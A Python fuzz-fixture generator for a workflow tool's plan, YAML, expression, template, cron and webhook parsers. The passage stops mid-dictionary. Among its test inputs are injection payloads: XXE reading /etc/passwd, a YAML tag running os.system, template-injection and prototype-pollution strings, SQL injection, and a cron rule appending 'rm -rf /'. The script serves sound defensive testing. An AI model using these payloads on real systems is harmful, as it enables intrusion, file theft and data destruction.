"""Writes tests/fixtures/bad_input: one file a case, named CLASS.NUMBER[-detail].EXTENSION in its reader's folder.

It ran once; what it wrote is kept and not written again, so that a case stays a case. Run it only to add a class
(files that are there stay as they are): python3 tests/bad_input/generate.py
"""

import itertools
import json
import re
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "fixtures"
OUT = FIXTURES / "bad_input"
counts = {}
seen = set()


def put(target, name, content, detail="", ending="txt"):
    data = content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")
    if (target, data) in seen:
        return
    seen.add((target, data))
    key = (target, name)
    counts[key] = counts.get(key, 0) + 1
    detail = re.sub(r"[^A-Za-z0-9]+", "-", detail).strip("-")[:40]
    file = OUT / target / f"{name}.{counts[key]:03}{'-' + detail if detail else ''}.{ending}"
    file.parent.mkdir(parents=True, exist_ok=True)
    if not file.exists():
        file.write_bytes(data)


# ---- documents -------------------------------------------------------------------------------------------------

OWN = {
    "format": "signalbox/v1",
    "name": "Hello",
    "description": "Says hello",
    "graph": {
        "nodes": [
            {"id": "start", "kind": {"type": "trigger", "trigger": {"on": "webhook", "path": "/x", "respond": "accepted"}}},
            {"id": "ask", "kind": {"type": "human", "mode": "approve", "prompt": "Shall we?"}, "position": {"x": 1, "y": 2}},
            {"id": "get", "kind": {"type": "action", "tool": "customer.get_by_id", "parameters": {"customerId": "{{input.id}}"}},
             "policy": {"retry": {"max_attempts": 3, "backoff_ms": 1000}, "timeout_ms": 5000}},
            {"id": "end", "kind": {"type": "end", "outcome": "done", "output": {"said": "{{input.a}}"}}},
        ],
        "edges": [
            {"id": "e1", "from": "start", "port": "success", "to": "ask"},
            {"id": "e2", "from": "ask", "port": "approved", "to": "get"},
            {"id": "e3", "from": "get", "port": "success", "to": "end"},
        ],
        "settings": {"variables": {"a": 1}, "concurrency": {"key": "{{input.id}}", "limit": 1}},
    },
}


DAG = {
    "name": "Research",
    "description": "All that a plan can say",
    "tags": ["a", "b"],
    "saveAsTemplate": False,
    "steps": [
        {"id": "first", "prompt": "Read {{input.text}}", "model": "small", "queue": "fast", "timeoutMs": 60000,
         "retry": {"maxAttempts": 3, "backoffMs": 1000}, "maxTokens": 500, "temperature": 0.5},
        {"id": "second", "prompt": "Sum up {{first.output}}", "dependsOn": ["first"], "requiresApproval": True,
         "condition": "first.output != ''"},
    ],
}


def load(path):
    return json.loads((FIXTURES / path).read_text())


DOCUMENTS = {
    "outbound": (load("plans/outbound-intro.json"), (FIXTURES / "plans/outbound-linear.json").read_text()),
    "dag": (DAG, (FIXTURES / "plans/dag-topics.json").read_text()),
    "contract": (load("plans/contract-launch.json"), json.dumps(load("plans/contract-launch.json"))),
    "visual": (load("guide-patterns/5-error-handling.json"), (FIXTURES / "guide-patterns/3-customer-health.json").read_text()),
    "own": (OWN, json.dumps(OWN)),
}
TOKEN = re.compile(r'"(?:[^"\\]|\\.)*"|[{}\[\],:]|[^\s{}\[\],:"]+')
YAML = (FIXTURES / "plans/dag-contract-review.yaml").read_text()


def paths(value, path=()):
    yield path
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from paths(inner, path + (key,))
    if isinstance(value, list):
        for at, inner in enumerate(value):
            yield from paths(inner, path + (at,))


def kinds_of_paths(document):
    """One path of each kind: which item of a list it is in does not matter, but which keys that item has."""
    found = {}
    for path in paths(document):
        if path:
            found.setdefault(tuple("#" if isinstance(part, int) else part for part in path), path)
    return found.values()


def at(document, path):
    for part in path:
        document = document[part]
    return document


def changed(document, path, change):
    copy = json.loads(json.dumps(document))
    change(at(copy, path[:-1]), path[-1])
    return json.dumps(copy, ensure_ascii=False)


def wrong(value):
    """Two things of other types."""
    if isinstance(value, bool):
        return ["yes", 1]
    if isinstance(value, (int, float)):
        return [str(value), [value]]
    if isinstance(value, str):
        return [7, {"a": value}]
    if isinstance(value, list):
        return [{"0": value[0]} if value else {}, "a, b"]
    return [[value], None]


def dotted(path):
    return "-".join(str(part) for part in path)


def documents():
    for target, (document, text) in DOCUMENTS.items():
        tokens = [match.end() for match in TOKEN.finditer(text)][:-1]
        for end in tokens[:: max(1, len(tokens) // 90)]:
            put(target, "truncated", text[:end], ending="json")
        for path in kinds_of_paths(document):
            value = at(document, path)
            for other in wrong(value):
                put(target, "wrong-type", changed(document, path, lambda o, k: o.__setitem__(k, other)), dotted(path), "json")
            if isinstance(path[-1], str):
                put(target, "missing", changed(document, path, lambda o, k: o.pop(k)), dotted(path), "json")
                put(target, "null", changed(document, path, lambda o, k: o.__setitem__(k, None)), dotted(path), "json")
        objects = [path for path in kinds_of_paths(document) if isinstance(at(document, path), dict)]
        for path in objects:
            put(target, "unknown-field", changed(document, path, lambda o, k: o[k].__setitem__("definitelyUnknown", {"a": [1]})), dotted(path), "json")
        for match in list(re.finditer(r'"([A-Za-z]+)"\s*:', text))[::7]:
            put(target, "duplicate-key", text[: match.start()] + f'"{match[1]}": 0, ' + text[match.start():], match[1], "json")
        numbers = [path for path in kinds_of_paths(document) if isinstance(at(document, path), (int, float)) and not isinstance(at(document, path), bool)]
        for path in numbers:
            for number in ["1e999", "-1", "0.5", "9223372036854775808", "18446744073709551616", "1e308", "-0", "1e-400", "01", "NaN", "0x10"]:
                plain = changed(document, path, lambda o, k: o.__setitem__(k, "@@"))
                put(target, "number", plain.replace('"@@"', number), dotted(path) + number, "json")
        names(target, document)
        texts(target, document, text)
        nesting(target, document)


def names(target, document):
    """Ids and names that are none."""
    strings = [path for path in kinds_of_paths(document) if isinstance(at(document, path), str)]
    ids = [path for path in strings if path[-1] in ("id", "stepSlug", "name", "title", "from", "goto", "to")][:3]
    hostile = ["", " ", "a b", "x" * 121, "../../etc/passwd", "a\u0000b", "__proto__", "constructor", "\u202egnp", "\u0430dmin",
               "a\u200bb", "\ufeff", "<img src=x onerror=alert(1)>", "{{input.x}}", "a\r\nb", "%00", "e\u0301", "\U0001f682", "CON", "a/b", "a~1b"]
    for path, value in itertools.product(ids, hostile):
        put(target, "name", changed(document, path, lambda o, k: o.__setitem__(k, value)), dotted(path), "json")


def texts(target, document, text):
    """Bytes that are no text, or another text than it looks."""
    raw = text.encode()
    middle = raw.index(b'"', len(raw) // 2) + 1
    for what, data in {
        "invalid-utf8": raw[:middle] + b"\xff\xfe" + raw[middle:],
        "overlong": raw[:middle] + b"\xc0\xaf" + raw[middle:],
        "surrogate-bytes": raw[:middle] + b"\xed\xa0\x80" + raw[middle:],
        "cut-character": raw[:middle] + b"\xf0\x9f\x9a",
        "nul": raw[:middle] + b"\0" + raw[middle:],
        "escape": raw[:middle] + b"\x1b[2J" + raw[middle:],
        "lone-surrogate": raw[:middle] + b"\\ud800" + raw[middle:],
        "nul-escape": raw[:middle] + b"\\u0000" + raw[middle:],
        "bad-escape": raw[:middle] + b"\\x41" + raw[middle:],
        "utf16": text.encode("utf-16"),
        "utf16-be": text.encode("utf-16-be"),
        "utf32": text.encode("utf-32"),
        "bom": b"\xef\xbb\xbf" + raw,
        "two-boms": b"\xef\xbb\xbf\xef\xbb\xbf" + raw,
        "crlf": raw.replace(b"\n", b"\r\n"),
        "cr": raw.replace(b"\n", b"\r"),
        "line-separators": text.replace("\n", "\u2028").encode(),
        "no-break-spaces": text.replace(" ", "\u00a0").encode(),
        "typographic-quotes": text.replace('"', "\u201d").encode(),
        "single-quotes": text.replace('"', "'").encode(),
        "full-width": text.replace(":", "\uff1a").encode(),
        "comment": raw.replace(b"{", b"{ // x\n", 1),
        "trailing-comma": re.sub(rb"\}\s*\]", b"},]", raw, count=1),
        "twice": raw + raw,
        "garbage-after": raw + b" x",
        "only-space": b" \n\t ",
        "empty": b"",
        "homoglyph-key": re.sub(rb'"(n)(ame|odes)"', '"\u0578\\2"'.encode(), raw, count=1),
        "html": b"<!doctype html><title>Not found</title>",
        "xml": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        "zip": b"PK\x03\x04\x14\0\0\0\x08\0" + bytes(range(40)),
        "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + bytes(range(40)),
        "javascript": b"export default " + raw,
        "jsonp": b"callback(" + raw + b")",
        "array-of-it": b"[" + raw + b"]",
        "string-of-it": json.dumps(text).encode(),
    }.items():
        put(target, "text", data, what, "json")


def nesting(target, document):
    strings = [path for path in kinds_of_paths(document) if isinstance(at(document, path), (str, dict))]
    for path in strings[:: max(1, len(strings) // 4)]:
        plain = changed(document, path, lambda o, k: o.__setitem__(k, "@@"))
        for opening, closing in [("[", "]"), ('{"a":', "}")]:
            for levels in (101, 127, 3_000):
                put(target, "nesting", plain.replace('"@@"', opening * levels + "1" + closing * levels), f"{dotted(path)}-{levels}", "json")
    put(target, "nesting", "[" * 100_000, "open", "json")


def references():
    """Steps that lead to nowhere, to themselves, in a circle, or are there twice."""
    dag = lambda *steps: json.dumps({"name": "x", "steps": [{"id": i, "prompt": "p", "dependsOn": d} for i, d in steps]})
    for name, steps in {
        "itself": [("a", ["a"])],
        "two": [("a", ["b"]), ("b", ["a"])],
        "three": [("a", ["c"]), ("b", ["a"]), ("c", ["b"])],
        "tail": [("s", []), ("a", ["s", "c"]), ("b", ["a"]), ("c", ["b"])],
        "two-rings": [("a", ["b"]), ("b", ["a"]), ("c", ["d"]), ("d", ["c"])],
        "ring-of-fifty": [(f"s{i}", [f"s{(i + 49) % 50}"]) for i in range(50)],
    }.items():
        put("dag", "cyclic", dag(*steps), name, "json")
    put("dag", "dangling", dag(("a", ["b"])), "one", "json")
    put("dag", "dangling", dag(("a", []), ("b", ["A"])), "case", "json")
    put("dag", "dangling", dag(("a", []), ("b", ["a "])), "space", "json")
    put("dag", "duplicate-id", dag(("a", []), ("a", [])), "two", "json")
    put("dag", "duplicate-id", dag(("a", []), ("b", ["a"]), ("a", ["b"])), "around", "json")
    plan = lambda steps, ways: json.dumps({"id": "p", "version": 1, "name": "x", "steps": steps, "transitions": ways, "metadata": {}})
    mail = lambda i: {"type": "sendEmail", "id": i, "templateId": "t", "subject": "s"}
    end = {"type": "end", "id": "end", "outcome": "o"}
    ways = lambda *pairs: [{"from": a, "to": b} for a, b in pairs]
    branch = lambda i, *goto: {"type": "branch", "id": i, "conditions": [{"when": f"input.x == {n}" if n + 1 < len(goto) else "default", "goto": g} for n, g in enumerate(goto)]}
    for name, text in {
        "itself": plan([mail("a"), end], ways(("a", "a"))),
        "two": plan([mail("a"), mail("b"), end], ways(("a", "b"), ("b", "a"))),
        "three": plan([mail("a"), mail("b"), mail("c"), end], ways(("a", "b"), ("b", "c"), ("c", "a"))),
        "branch-without-way-out": plan([mail("a"), branch("b", "a", "a"), end], ways(("a", "b"))),
        "two-branches": plan([mail("s"), branch("a", "b", "b"), branch("b", "a", "a"), end], ways(("s", "a"))),
        "after-the-start": plan([mail("s"), mail("a"), mail("b"), end], ways(("s", "a"), ("a", "b"), ("b", "a"))),
    }.items():
        put("outbound", "cyclic", text, name, "json")
    for name, text in {
        "transition-to": plan([mail("a"), end], ways(("a", "nowhere"))),
        "transition-from": plan([mail("a"), end], ways(("nowhere", "a"))),
        "goto": plan([mail("a"), branch("b", "nowhere", "end"), end], ways(("a", "b"))),
        "default": plan([mail("a"), branch("b", "nowhere"), end], ways(("a", "b"))),
    }.items():
        put("outbound", "dangling", text, name, "json")
    put("outbound", "duplicate-id", plan([mail("a"), mail("a"), end], "linear"), "linear", "json")
    put("outbound", "duplicate-id", plan([mail("a"), branch("a", "end"), end], "linear"), "branch", "json")
    no_default = {"type": "branch", "id": "b", "conditions": [{"when": "input.x", "goto": "end"}]}
    put("outbound", "no-default", plan([mail("a"), no_default, end], "linear"), "one", "json")
    put("outbound", "no-default", plan([mail("a"), {"type": "branch", "id": "b", "conditions": []}, end], "linear"), "none", "json")
    put("outbound", "unreachable", plan([mail("a"), end, mail("b")], ways(("a", "end"))), "apart", "json")
    contract = DOCUMENTS["contract"][0]
    ids = [node["id"] for node in contract["nodes"]]
    for name, edges in {
        "itself": [(ids[0], ids[0])],
        "two": [(ids[0], ids[1]), (ids[1], ids[0])],
        "dangling": [(ids[0], "nowhere")],
        "from-nowhere": [("nowhere", ids[0])],
    }.items():
        copy = json.loads(json.dumps(contract))
        copy["edges"] += [{"id": f"bad{n}", "from": a, "to": b} for n, (a, b) in enumerate(edges)]
        put("contract", "dangling" if "where" in name or name == "dangling" else "cyclic", json.dumps(copy), name, "json")
    for entries in (["nowhere"], [], "all", [1], None):
        put("contract", "entry", json.dumps({**contract, "entryNodeIds": entries}), str(entries), "json")


def yaml():
    cut = [match.end() for match in re.finditer(r"[^\s]+", YAML)][:-1]
    for end in cut:
        put("dag", "yaml-truncated", YAML[:end], ending="yaml")
    laughs = "a: &a [x, x, x, x, x, x, x, x, x, x]\n"
    for name, of in [("b", "a"), ("c", "b"), ("d", "c"), ("e", "d"), ("f", "e"), ("g", "f"), ("h", "g")]:
        laughs += f"{name}: &{name} [{', '.join(['*' + of] * 10)}]\n"
        put("dag", "yaml-bomb", f"name: x\n{laughs}steps: [*{name}]\n", f"laughs-{name}", "yaml")
        put("dag", "yaml-bomb", laughs.replace("[", "{k: [").replace("]", "]}") + f"steps: *{name}\n", f"laughs-in-maps-{name}", "yaml")
    for name, text in {
        "itself": "a: &a [*a]\nsteps: *a\n",
        "itself-map": "steps: &a {b: *a}\n",
        "merge": "base: &b {id: a, prompt: p}\nsteps:\n- <<: *b\n",
        "merge-itself": "steps: &a\n- <<: *a\n",
        "merge-list": "steps:\n- <<: [{id: a}, {prompt: p}]\n",
        "merge-text": "steps:\n- <<: word\n",
        "unknown-anchor": "steps: *nobody\n",
        "many-anchors": "steps:\n" + "".join(f"- &n{i} {{id: s{i}, prompt: p}}\n" for i in range(1_100)),
        "many-aliases": "a: &a x\nsteps:\n" + "- *a\n" * 1_100,
        "two-documents": YAML + "---\n" + YAML,
        "only-a-mark": "---\n",
        "two-ends": YAML + "...\n...\n",
        "tab-indent": YAML.replace("  ", "\t"),
        "mixed-indent": "steps:\n - id: a\n  prompt: p\n",
        "tag": "steps: !!python/object/apply:os.system ['id']\n",
        "tag-binary": "steps: !!binary x y z\n",
        "tag-own": "steps: !evil [1]\n",
        "tag-int": "steps: !!int many\n",
        "directive": "%YAML 9.9\n---\nsteps: []\n",
        "directive-tag": "%TAG ! tag:evil.example,2000:\n---\nsteps: !x []\n",
        "complex-key": "? [a, b]\n: steps\n",
        "number-key": "1: steps\nsteps: []\n",
        "null-key": "~: x\nsteps: []\n",
        "duplicate-key": "steps: []\nsteps: []\n",
        "duplicate-key-deep": "steps:\n- id: a\n  id: b\n  prompt: p\n",
        "not-a-number": "steps:\n- {id: a, prompt: p, timeoutMs: .nan}\n",
        "infinite": "steps:\n- {id: a, prompt: p, timeoutMs: .inf}\n",
        "octal": "steps:\n- {id: a, prompt: p, timeoutMs: 0o777}\n",
        "sexagesimal": "steps:\n- {id: a, prompt: p, timeoutMs: 190:20:30}\n",
        "yes-is-text": "steps:\n- {id: a, prompt: p, requiresApproval: yes}\n",
        "number-as-id": "steps:\n- {id: 1, prompt: p}\n",
        "date-as-id": "steps:\n- {id: 2026-01-01, prompt: p}\n",
        "null-steps": "name: x\nsteps: ~\n",
        "open-quote": "steps:\n- id: \"a\n  prompt: p\n",
        "open-flow": "steps: [{id: a, prompt: p}\n",
        "open-block": "steps: |\n",
        "colon-in-plain": "name: a: b\nsteps: []\n",
        "hash": "name: a #b\nsteps: []\n",
        "bom-inside": "name: x\n\ufeffsteps: []\n",
        "nul": "name: \"a\\0b\"\nsteps: []\n",
        "escape": "name: \"\\xff\\u00\"\nsteps: []\n",
        "control": "name: a\x07b\nsteps: []\n",
        "nel": "name: x\u0085steps: []\n",
        "at": "name: @x\nsteps: []\n",
        "backtick": "name: `x`\nsteps: []\n",
        "percent": "name: %x\nsteps: []\n",
        "deep-flow": "steps: " + "[" * 300 + "]" * 300 + "\n",
        "deep-block": "steps:\n" + "".join(" " * i + "-\n" for i in range(1, 120)) + " " * 120 + "x\n",
        "deep-dashes": "- " * 500 + "x\n",
        "deep-maps": "".join(" " * i + f"k{i}:\n" for i in range(120)) + " " * 120 + "x\n",
        "just-words": "hello world\n",
        "just-a-list": "- id: a\n  prompt: p\n",
        "crlf": YAML.replace("\n", "\r\n"),
        "cr": YAML.replace("\n", "\r"),
        "trailing-colon": YAML + "x:\n",
        "question-marks": "?\n" * 60,
        "colons": ":" * 200,
        "stars": "*" * 200,
        "ampersands": "&" * 200,
        "excls": "!" * 200,
        "quotes": "'" * 201,
        "long-key": "? " + "k" * 2_000 + "\n: x\nsteps: []\n",
    }.items():
        put("dag", "yaml-bomb" if "deep" in name or "many" in name or "itself" in name else "yaml", text, name, "yaml")


# ---- the language ----------------------------------------------------------------------------------------------


def expressions():
    good = [
        "{{steps.a.output.total}} > 100 && input.name != 'x'",
        "items.filter(x => x.a > 1 && x.b contains 'y')[0]?.name ?? \"none\"",
        "{k: [1, 2.5, {'l l': null}], m: \"{{a.b}} t\"}",
        "a|formatList('{a}: {b|upper}')|split(',')|length",
        "a ? b : (c // 2) ^ 2 - -1 % 4",
    ]
    for text in good:
        ends = [match.end() for match in re.finditer(r"[A-Za-z0-9_]+|\s+|.", text)][:-1]
        for end in ends:
            put("expression", "truncated", text[:end])
        for match in re.finditer(r"[()\[\]{}'\"]", text):
            put("expression", "bracket-lost", text[: match.start()] + text[match.end():])
    for text in ["", " ", "\t\n", "\u00a0", "\ufeff", "\u200b"]:
        put("expression", "nothing", text)
    for operator in ["==", "===", "!=", "!==", "<", "<=", ">", ">=", "&&", "||", "??", "+", "-", "*", "/", "//", "%", "^", "?", ":", ",", ".", "?.", "|", "=>", "=", "&", "~", "#", "@", "$", "\\", "`", ";"]:
        put("expression", "operator", f"a {operator}", "nothing after")
        put("expression", "operator", f"{operator} a", "nothing before")
        put("expression", "operator", f"a {operator} {operator} b", "twice")
    for word in ["and", "or", "not", "is", "new", "delete", "typeof", "void", "function", "return", "if", "var", "let", "while", "for", "import", "await", "yield", "class", "this.x =", "a = 1;", "a++", "a += 1", "a; b", "`a`", "/a/g", "a ? b", "x => y => z", "(x) => x", "...a", "#a", "a!", "1a", "1.2.3", "0x1f", "1e", "1e+", "1_000", ".5", "5.", "'a' 'b'", "a b", "a, b", "f(,)", "f(a,)", "[a,,b]", "[,]", "{,}", "{a}", "{a:}", "{:a}", "{1:2}", "{a:1 b:2}", "a[", "a[]", "a[1", "a.1", "a..b", "a.?b", "a?..b", "a|", "a|1", "a|'x'", "a||", "|a", "a|f(", "a.f(", "f()()", "a.b()c", "'\\q'", "'\\u12'", "\"a", "'a", "'a\nb'", "{{", "{{a", "{{}}", "{{a}} }}", "{{a}}}}", "{{{a}}", "{{a", "'{{a'", "'{{a.}}'", "\"{{'}}\"", "a|formatList('{')", "a|formatList('{{')", "a|map(x =>)", "a|map(=> x)", "a|filter('')", "a|filter(')')", "[.a", "[.a > ]", ".a", ".", "..", "?.a"]:
        put("expression", "other-language", word, word)
    for text in ["constructor.constructor('return process')()", "__proto__.polluted", "self.window", "globalThis", "process.env", "require('fs')", "''.__class__.__mro__[1].__subclasses__()", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{T(java.lang.Runtime).getRuntime().exec('id')}", "{{config.items()}}", "{{[].pop.constructor('alert(1)')()}}", "lipsum.__globals__.os.popen('id').read()", "secrets.key", "env.HOME", "now().constructor", "a.__proto__", "a['__proto__']", "toString.call(1)", "eval('1')", "Function('1')()", "import('fs')", "system('id')", "`id`", "$(id)", "; ls", "' OR 1=1 --", "1); DROP TABLE runs; --"]:
        put("expression", "escape", text)
    bombs = {
        "parens": "(" * 3_000 + "1" + ")" * 3_000, "lists": "[" * 3_000 + "]" * 3_000, "nots": "!" * 4_000 + "a", "minus": "-" * 4_000 + "a",
        "chain": "a" + "+a" * 2_000, "dots": "a" + ".a" * 2_000, "pipes": "a" + "|first" * 1_000, "ternary": "a?b:" * 1_500 + "c",
        "power": "2^" * 2_000 + "2", "objects": "{a:" * 1_500 + "1" + "}" * 1_500, "calls": "f(" * 2_000 + ")" * 2_000, "index": "a" + "[0]" * 2_000,
        "arrows": "a|map(x => " * 500 + "x" + ")" * 500, "quotes": "a|filter('" * 300, "long": "'" + "a" * 9_000 + "'", "template": "'" + "{{a}}" * 1_600 + "'",
        "huge-power": "9^9^9^9^9", "huge-number": "9" * 4_000, "small-number": "0." + "0" * 4_000 + "1", "exponent": "1e999999999", "format": "a|formatList('" + "{a}" * 2_000 + "')",
        "slices": "a|slice(-9223372036854775808, 9223372036854775807)", "chunk": "'a'|chunk(0)", "fixed": "1|toFixed(99999999)", "pattern": "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'|matches('(a+)+$b')",
        "pattern-large": "'a'|matches('(a{200}){200}{200}')", "pattern-open": "'a'|matches('(')", "pattern-long": "'a'|matches('" + "a" * 600 + "')",
    }
    for name, text in bombs.items():
        put("expression", "bomb", text, name)
    for text in ["\u0430 == 1", "a\u2009== 1", "\u201ca\u201d", "\u2018a\u2019", "a \u2013 b", "a \u00d7 b", "a \u2260 b", "a\u00a0&&\u00a0b", "\uff08a\uff09", "\u202ea", "a\u200d", "e\u0301 == \u00e9", "\U0001f682", "a\u0000", "'a\u0000b'", "'\\u0000'", "a\r\n&&\r\nb", "\u2028a", "'\ud800'", "\ufeffa", "\u00aa", "\u1d552", "'\\ud83d'", "'\\ud83d\\ude82'"]:
        put("expression", "character", text)


def templates():
    good = ["Hello {{input.name|default('you')}}, {{#a}}<{{a}}>{{/a}}{{^c}}none{{/c}} \\{{not}}", "{{#each a}}{{this}} {{else}}-{{/each}}{{#if a}}yes{{/if}}{{!-- c --}}{{{raw}}}"]
    for text in good:
        for match in list(re.finditer(r"[A-Za-z0-9_]+|[{}]+|\s+|.", text))[:-1]:
            put("template", "truncated", text[: match.end()])
    for text in ["{{", "}}", "{{}}", "{{ }}", "{{{", "{{{a}}", "{{a}", "{{a", "{ {a} }", "{{a}}}}", "{{/a}}", "{{#a}}", "{{#a}}{{/b}}", "{{#a}}{{#b}}{{/a}}{{/b}}", "{{else}}", "{{#a}}{{else}}{{else}}{{/a}}", "{{^a}}", "{{#}}{{/}}", "{{#each}}{{/each}}", "{{#if}}{{/if}}", "{{#unless}}{{/unless}}", "{{#each a}}{{/if}}", "{{#with a}}{{/with}}", "{{> partial}}", "{{>../../etc/passwd}}", "{{& a}}", "{{=<% %>=}}", "{{!-- open", "{{! open", "{{#a b c}}{{/a}}", "{{/each}}", "{{#if a}}{{else if b}}{{/if}}", "{{a b}}", "{{a 'b'}}", "{{a=1}}", "{{@index}}", "{{../a}}", "{{this.}}", "{{.}}", "{{..}}", "{{a..b}}", "{{'}}'", "{{\"}}", "{{'a}}b'", "\\\\{{a", "\\{{{a}}", "{{a|}}", "{{|a}}", "{{a|b(}}", "{{1 +}}", "{{(}}", "{{)}}", "{{[}}", "{{#a}}{{/a", "{{#a}}}}", "{{{{a}}}}", "{{{{raw}}}}{{/raw}}", "{{% if a %}}", "{% if a %}x", "<%= a", "${a", "#{a}", "{{a}}{{", "{{steps.x.output", "{{ #a }}", "{{#a}}{{^a}}{{/a}}"]:
        put("template", "section", text, text)
    for name, text in {
        "sections": "{{#a}}" * 5_000, "closings": "{{/a}}" * 5_000, "pairs-deep": "{{#a}}" * 500 + "{{/a}}" * 500, "braces": "{" * 20_000, "backslashes": "\\" * 20_001 + "{{",
        "each": "{{#each a}}" * 500 + "x" + "{{/each}}" * 500, "if": "{{#if a}}" * 200 + "{{else}}" * 200, "comments": "{{!--" * 2_000, "quotes": "{{\"" * 2_000, "expression": "{{" + "(" * 5_000 + "}}",
        "lists": "{{" + "[" * 5_000 + "}}", "chain": "{{a" + "+a" * 4_000 + "}}", "values": "{{a}}" * 3_000 + "{{", "long-expression": "{{'" + "a" * 9_000 + "'}}",
    }.items():
        put("template", "bomb", text, name)
    for text in ["{{\u0000}}", "{{a\u202e}}", "\u0000{{", "{{\u201ca\u201d}}", "{{\ufeff}}", "{{\u00a0}}", "\uff5b\uff5ba\uff5d\uff5d{{", "{{a\r\n", "{{\ud800}}", "{{\U0001f682}}", "{{e\u0301|nope(}}", "\u2028{{"]:
        put("template", "character", text)


def crons():
    fields = ["minute", "hour", "day", "month", "weekday"]
    bad = ["60", "-1", "99999999999999999999", "1-", "-", "1--2", "5-1", "1-2-3", "*/0", "*/-1", "*/x", "*/", "/5", "1/", "1//2", "*/1/2", ",", "1,", ",1", "1,,2", "**", "*1", "1*", "?", "L", "W", "15W", "1#2", "LW", "0.5", "1e1", "0x1", "+1", " ", "\u0661", "\uff11", "a", "sund", "janu", "@daily", "$x", "{{input.x}}", "H", "~", "*-5", "1-*", "\u0000", "\u2010"]
    for index, field in enumerate(fields):
        for value in bad:
            if value == " ":
                continue
            if value in ("+1",):
                pass
            parts = ["0", "9", "1", "1", "1"]
            parts[index] = value
            put("cron", field, " ".join(parts), value)
    limits = {"minute": ["60", "59-60", "0-60/2", "*/60"], "hour": ["24", "23-24", "0-24/3", "*/24"], "day": ["0", "32", "31-32", "0-5", "*/32"], "month": ["0", "13", "12-13", "0-6", "dec-jan", "*/13"], "weekday": ["8", "7-8", "fri-mon", "sat-8", "*/8"]}
    for index, field in enumerate(fields):
        for value in limits[field]:
            parts = ["0", "9", "*", "*", "*"]
            parts[index] = value
            put("cron", field, " ".join(parts), value)
    for rule in ["", " ", "*", "* *", "* * *", "* * * *", "* * * * * *", "0 0 9 * * *", "* * * * * * *", "@", "@reboot", "@every 5m", "@daily 5", "@ daily", "daily", "every day at 9", "0 9 * * 1-5 /bin/sh", "0 9 * * *; rm -rf /", "TZ=UTC 0 9 * * *", "CRON_TZ=UTC 0 9 * * *", "0,9,*,*,*", "0-9-*-*-*", "0:9:*:*:*", "P1D", "R/PT1H", "2026-01-01", "null", "{}", "[0, 9]", "\"0 9 * * *\"", "0 0 30 2 *", "0 0 30 feb *", "0 0 31 4,6,9,11 *", "0 0 31 feb,apr *", "0\u00a09\u00a0*\u00a0*\u00a0* *", "\u2217 \u2217 \u2217 \u2217 \u2217", "0 9 * * \u043con", "0\r\n9 * *", "0 9 * * *\u0000", "\ufeff0 9 * * *", "1," * 150 + "1 * * * *", "*" * 300, "0 " * 300, "*/15" * 50, "@" * 100]:
        put("cron", "rule", rule, rule)


# ---- requests --------------------------------------------------------------------------------------------------


def webhooks():
    bodies = {
        "json": b'{"order": {"id": 7}}', "form": b"order=7&name=Ada", "xml": b"<order><id>7</id></order>", "html": b"<script>alert(1)</script>",
        "multipart": b"--x\r\nContent-Disposition: form-data; name=\"a\"; filename=\"../../x\"\r\n\r\n1\r\n--x--\r\n", "zip": b"PK\x03\x04" + bytes(range(32)), "yaml": b"order: 7\n", "text": b"hello", "utf16": '{"a": 1}'.encode("utf-16"),
    }
    types = ["", "application/json", "APPLICATION/JSON", "application/json; charset=utf-8", "application/json; charset=utf-16", "application/json; charset=iso-8859-1", "application/json;charset=\"utf-8\";x=y", "application/json ; boundary=x", "application/json, text/html", "application/json text/html", "application/jsonx", "application/x-json", "text/json", "text/javascript", "application/javascript", "application/ld+json", "application/cloudevents+json", "application/+json", "+json", "x+json", "application/json+xml", "application/xml+json", "json", "*/*", "application/*", "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-16", "application/X-WWW-FORM-URLENCODED", "application/x-www-form-urlencodedx", "multipart/form-data", "multipart/form-data; boundary=x", "multipart/mixed; boundary=x", "multipart/form-data; boundary=", "multipart/related", "text/plain", "text/plain; charset=utf-8", "text/html", "text/xml", "application/xml", "application/xhtml+xml", "image/svg+xml", "application/yaml", "text/yaml", "application/octet-stream", "application/zip", "application/gzip", "application/msgpack", "application/cbor", "application/x-protobuf", "application/graphql", "application/ndjson", "application/json-seq", "application/x-ndjson", "message/http", "image/png", "application/pdf", "a/b", "/", ";", "application/", "/json", "application/json\t", "application/json;", "application/json;;", "application /json", "\"application/json\"", "application/json%00", "application/\u0458son", "x" * 300 + "/json"]
    index = 0
    for kind in types:
        chosen = list(bodies.items()) if kind in ("application/json", "application/x-www-form-urlencoded", "", "text/plain") else [list(bodies.items())[(index + n) % len(bodies)] for n in (0, 3, 5)]
        index += 1
        for name, body in chosen:
            header = f"content-type: {kind}".encode() if kind else b"x-none: 1"
            put("webhook", "content-type", b"\n" + header + b"\n\n" + body, f"{kind} {name}", "http")
    for line in ["content-type: text/html\ncontent-type: application/json", "content-type: application/json\ncontent-type: text/html", "content-type: application/json\ncontent-encoding: gzip", "content-type: application/json\ncontent-encoding: br", "content-type: application/json\ncontent-encoding: identity", "content-type: application/json\nx-http-method-override: DELETE", "content-type: application/json\nx-content-type-options: nosniff", "content-type: application/json\naccept: text/html"]:
        put("webhook", "content-type", f"\n{line}\n\n" + '{"a": 1}', line, "http")
    send = lambda body, kind="application/json", query="", more="": (f"{query}\ncontent-type: {kind}\n{more}".rstrip("\n") + "\n\n").encode() + body
    for name, body in {
